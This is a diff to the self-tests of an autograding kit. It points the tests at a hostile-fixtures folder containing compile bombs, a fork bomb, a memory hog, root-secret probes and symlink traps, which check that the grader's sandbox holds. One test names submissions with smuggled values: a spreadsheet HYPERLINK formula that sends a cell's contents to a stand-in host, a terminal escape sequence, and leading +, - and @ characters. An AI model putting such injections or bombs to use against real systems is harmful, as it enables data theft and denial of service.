@@ -43,7 +43,8 @@ from ..sandbox_slots import RUN_PROCESSES
 from ..status import NO_COMPILE
 from . import scale
 from .harness import Failed, Skipped, expect, need_solutions
-from .integrity import HOSTILE, isolations, one_slip_folder, printed, processes_named, run_modes, step_results
+from .integrity import isolations, one_slip_folder, printed, processes_named, run_modes, step_results
+from .fixtures import fixture_dir
 
 FULL = os.environ.get("RAYKIT_SELFTEST_FULL") == "1"
 WORK = BUILD / "selftest-boundary"
@@ -91,7 +92,7 @@ def check(folder: Path, numbers: list[str], mode: str, limits: str = "", slot: i
 
 def templated(name: str) -> Path:
     """A fixture with @ROOT@ replaced by the kit's folder, as a student would write the path."""
-    src = HOSTILE / name
+    src = fixture_dir("hostile") / name
     dst = WORK / "fixtures" / name
     shutil.rmtree(dst, ignore_errors=True)
     for f in src.rglob("*"):
@@ -181,7 +182,7 @@ def selftest_compile_bombs(ctx) -> str:
         # limit before the memory limit): any of them, named, is the boundary holding.
         stopped = ("ran out of", "took over", "was stopped by signal")
         for name in ("compile_bomb_zero", "compile_bomb_slow"):
-            rc, got, _, took = check(HOSTILE / name, ["01"], mode, limits)
+            rc, got, _, took = check(fixture_dir("hostile") / name, ["01"], mode, limits)
             [step] = got["record"]["steps"]
             expect(step["state"] == NO_COMPILE and any(w in step["detail"] for w in stopped),
                    f"{name} ({mode}): {step['state']}; {step['detail'][-300:]!r}")
@@ -194,7 +195,7 @@ def selftest_compile_bombs(ctx) -> str:
     # ./kit grade -j 2: a bomb beside the solutions; the solutions score as alone.
     subs = WORK / "grade-bombs"
     shutil.rmtree(subs, ignore_errors=True)
-    shutil.copytree(HOSTILE / "compile_bomb_slow", subs / "a_bomb")
+    shutil.copytree(fixture_dir("hostile") / "compile_bomb_slow", subs / "a_bomb")
     shutil.copytree(ROOT / "solutions", subs / "b_solutions")
     rows = grade_class(subs, ["-j", "2"], limits)
     _, alone, _, _ = check(ROOT / "solutions", [s.number for s in ctx.steps], isolations()[0][0])
@@ -217,21 +218,21 @@ def selftest_run_bombs(ctx) -> str:
     memory = 384
 
     def one(mode: str) -> str:
-        _, base, _, _ = check(HOSTILE / "always_miss", ["01"], mode)
+        _, base, _, _ = check(fixture_dir("hostile") / "always_miss", ["01"], mode)
         parts = []
-        _, got, _, _ = check(HOSTILE / "memory_hog", ["01"], mode, f"run_memory_mb={memory}")
+        _, got, _, _ = check(fixture_dir("hostile") / "memory_hog", ["01"], mode, f"run_memory_mb={memory}")
         most = max(numbers_in(printed(got), r"memory_hog: (\d+) MiB so far") or [0])
         expect("memory_hog: a thread started" in printed(got) or "memory_hog: no thread" in printed(got),
                f"memory_hog ({mode}): did not run")
         expect(most < memory, f"memory_hog ({mode}): its thread touched {most} MiB, the limit is {memory} MiB")
         parts.append(f"memory {most} MiB < {memory}")
-        _, forks, _, _ = check(HOSTILE / "fork_bomb", ["01"], mode)
+        _, forks, _, _ = check(fixture_dir("hostile") / "fork_bomb", ["01"], mode)
         started = max(numbers_in(printed(forks), r"fork_bomb: started (\d+)") or [-1])
         # The answers program may start no process at all (sandbox_slots.RUN_PROCESSES, itself).
         expect(started == RUN_PROCESSES - 1, f"fork_bomb ({mode}): started {started} children, the answers "
                                              f"program may start {RUN_PROCESSES - 1}")
         parts.append(f"forks {started}")
-        _, fill, _, _ = check(HOSTILE / "fill_scratch", ["01"], mode)
+        _, fill, _, _ = check(fixture_dir("hostile") / "fill_scratch", ["01"], mode)
         text = printed(fill)
         wrote = max(numbers_in(text, r"wrote (\d+) MiB") or [-1])
         big = max(numbers_in(text, r"one file reached (\d+) MiB") or [-1])
@@ -292,7 +293,7 @@ def selftest_root_secrets(ctx) -> str:
     servers = [RootSocket(p) for p in ("/run/raykit-hostile.sock", "/tmp/raykit-hostile.sock") if Path(p).parent.is_dir()]
 
     def one(mode: str) -> str:
-        _, got, _, _ = check(HOSTILE / "root_secrets", ["01"], mode)
+        _, got, _, _ = check(fixture_dir("hostile") / "root_secrets", ["01"], mode)
         text = printed(got)
         expect("root_secrets:" in text, f"root_secrets ({mode}): did not run")
         leaks = sorted({l for l in text.splitlines() if "could" in l})
@@ -327,7 +328,7 @@ def selftest_lingering_child(ctx) -> str:
         watcher = threading.Thread(target=sample, daemon=True)
         watcher.start()
         try:
-            _, got, _, took = check(HOSTILE / "lingering_child", ["01"], mode)
+            _, got, _, took = check(fixture_dir("hostile") / "lingering_child", ["01"], mode)
         finally:
             done.set()
             watcher.join()
@@ -355,7 +356,7 @@ def selftest_lingering_child(ctx) -> str:
         watcher = threading.Thread(target=sample, daemon=True)
         watcher.start()
         try:
-            data = gradescope(HOSTILE / "lingering_child")
+            data = gradescope(fixture_dir("hostile") / "lingering_child")
         finally:
             done.set()
             watcher.join()
@@ -377,7 +378,7 @@ def selftest_output_is_data(ctx) -> str:
     need_solutions()
     modes, _ = isolations()
     mode = modes[0] if modes else "none"
-    rc, got, shown, _ = check(HOSTILE / "escapes", ["01"], mode, quiet=False)
+    rc, got, shown, _ = check(fixture_dir("hostile") / "escapes", ["01"], mode, quiet=False)
     expect("escapes:" in printed(got), "escapes: did not run")
     expect("escapes:" in shown, "escapes: its output is not shown under the failing case")
     raw = RAW_CONTROL.findall(shown)
@@ -386,7 +387,7 @@ def selftest_output_is_data(ctx) -> str:
     shutil.rmtree(subs, ignore_errors=True)
     formula = '=HYPERLINK("http://example.invalid/"&B2,"dave")'
     for name in (formula, "\x1b[2Jeve", "+bob", "-carol", "@dan"):
-        shutil.copytree(HOSTILE / "always_miss", subs / name)
+        shutil.copytree(fixture_dir("hostile") / "always_miss", subs / name)
     csv_path = WORK / "names.csv"
     r = subprocess.run([str(ROOT / "kit"), "grade", str(subs), "--out", str(csv_path), "-j", "2"], cwd=ROOT,
                        capture_output=True, text=True, timeout=1800, errors="replace")
@@ -527,7 +528,7 @@ def selftest_gradescope_hidden_stay_hidden(ctx) -> str:
     need_solutions()
     if os.geteuid() != 0:
         raise Skipped("Gradescope runs the autograder as root", need="root")
-    upload = ROOT / "tests" / "fixtures" / "hostile" / "replay_results"
+    upload = fixture_dir("hostile") / "replay_results"
     base = {"created_at": "2026-09-01T10:00:00+00:00",
             "assignment": {"due_date": "2099-01-01T00:00:00+00:00", "title": "raykit"},
             "users": [{"email": "eve@example.edu", "name": "Eve"}]}
@@ -790,7 +791,7 @@ def selftest_lock_links(ctx) -> str:
         for name in names:                          # as root: the only one who can write there
             os.symlink(canary, NEW_LOCKS / name)
         parts.append(f"{len(names)} in {NEW_LOCKS} by root")
-        rc, got, shown, took = check(HOSTILE / "always_miss", ["01"], modes[0] if modes else "user", slot=slot)
+        rc, got, shown, took = check(fixture_dir("hostile") / "always_miss", ["01"], modes[0] if modes else "user", slot=slot)
         after = canary.read_bytes() if canary.is_file() and not canary.is_symlink() else b"(gone)"
         expect(after == body, f"a grading followed a planted link and wrote the canary: {after[:80]!r}")
         [step] = got["record"]["steps"]
@@ -861,7 +862,7 @@ def selftest_claim_squatters(ctx) -> str:
             uid_file = WORK / f"squatted-uid-{slot}"
             uid_file.unlink(missing_ok=True)
             procs.append((slot, target, uid_file, subprocess.Popen(
-                [str(ROOT / "kit"), "check", "1", "--steps", str(HOSTILE / "always_miss"), "--results", str(target),
+                [str(ROOT / "kit"), "check", "1", "--steps", str(fixture_dir("hostile") / "always_miss"), "--results", str(target),
                  "--isolation", mode, "--slot", str(slot), "--quiet"], cwd=ROOT, stdout=subprocess.PIPE,
                 stderr=subprocess.STDOUT, text=True, errors="replace",
                 env=dict(os.environ, RAYKIT_UID_FILE=str(uid_file)))))
